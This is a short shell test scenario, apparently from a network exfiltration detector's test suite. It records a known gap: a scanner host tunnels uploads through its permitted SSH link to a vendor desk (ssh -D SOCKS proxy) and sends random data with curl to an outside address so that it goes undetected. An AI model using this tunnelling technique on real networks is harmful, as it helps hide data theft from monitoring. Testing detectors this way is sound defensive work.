says='scanner-1 carries web uploads elsewhere through its permitted SSH to the service desk (ssh -D): by sizes that is an upload like any other, so nothing is found. A known limit'
twin=desk-upload
act() {
  secure_shell scanner1 desk.scanvendor.example 22 'sleep 20' -D 1080 &
  wait_port scanner1 127.0.0.1 1080
  local number
  for number in 1 2 3 4 5 6; do
    head -c 40000 /dev/urandom >"$work/piece"
    quiet on scanner1 curl --silent --max-time 10 --socks5 127.0.0.1:1080 --data-binary "@$work/piece" \
      http://198.51.100.41/up
    later 20
  done
  kill $! 2>/dev/null || true
}
